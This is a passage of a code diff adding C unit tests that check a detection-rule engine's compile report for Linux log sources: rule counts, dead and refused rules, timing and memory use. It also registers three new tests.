+    printf("  product linux:       rules  loaded  dead  refused (language or input)\n");
+    for (int i = 0; i < DS_LS_COUNT; i++)
+        printf("    %-20s %5u  %6u  %4u  %u\n", i ? ds_logsource_name(i) : "(not collected)",
+               c->lnx[i], c->lnx_loaded[i], c->lnx_dead[i], c->lnx_refused[i]);
+    for (unsigned i = 0; i < c->n_dead; i++)
+        printf("  dead: %s\n", c->dead[i]);
+    for (unsigned i = 0; i < c->n_refused; i++)
+        printf("  refused: %s\n", c->refused[i]);
+    printf("  Linux rules (%s): %u compiled in %.1f ms, engine %zu KiB, RSS +%zu KiB\n", linux_dir,
+           lnx_rules, lnx_ms, lnx_mem / 1024, rss1 > rss0 ? (rss1 - rss0) / 1024 : 0);
+    printf("  whole tree: %u compiled in %.1f ms, engine %zu KiB\n", ds_engine_rule_count(all),
+           all_ms, all_mem / 1024);
+    fflush(stdout);
+
+    /* Every file has a fate, none unreadable. */
+    assert_true(c->files > 1000);
+    assert_int_equal(c->files, count_rule_files(dir));
+    assert_int_equal(c->by_reason[DS_SKIP_IO], 0);
+    /* Every Linux rule of the collected log sources compiles: loaded or
+     * reported dead, none refused for its language or input. */
+    static const int ls[] = {DS_LS_PROCESS_CREATION, DS_LS_FILE_EVENT, DS_LS_NETWORK_CONNECTION};
+    for (size_t i = 0; i < 3; i++) {
+        assert_true(c->lnx[ls[i]] > 0);
+        assert_int_equal(c->lnx_refused[ls[i]], 0);
+        assert_int_equal(c->lnx_loaded[ls[i]] + c->lnx_dead[ls[i]], c->lnx[ls[i]]);
+    }
+    for (int i = DS_LS_NONE + 1; i < DS_LS_COUNT; i++)
+        assert_int_equal(c->lnx_refused[i], 0);
+    /* The dead ones say why. */
+    for (unsigned i = 0; i < c->n_dead; i++)
+        assert_non_null(strstr(c->dead[i], "can never match: field "));
+    ds_engine_destroy(all);
+    free(c);
+    free(lc);
+}
+
 int main(int argc, char **argv)
 {
     const struct CMUnitTest tests[] = {
@@ -934,6 +1681,9 @@ int main(int argc, char **argv)
         cmocka_unit_test(test_add_dir),
         cmocka_unit_test(test_no_allocation_per_event),
         cmocka_unit_test(test_stop),
+        cmocka_unit_test(test_index_equals_full_evaluation),
+        cmocka_unit_test(test_corpus_compile_report),
+        cmocka_unit_test(test_corpus_index_equals_full),
     };
     return tu_run_tests(tests, NULL, NULL, argc, argv);
 }
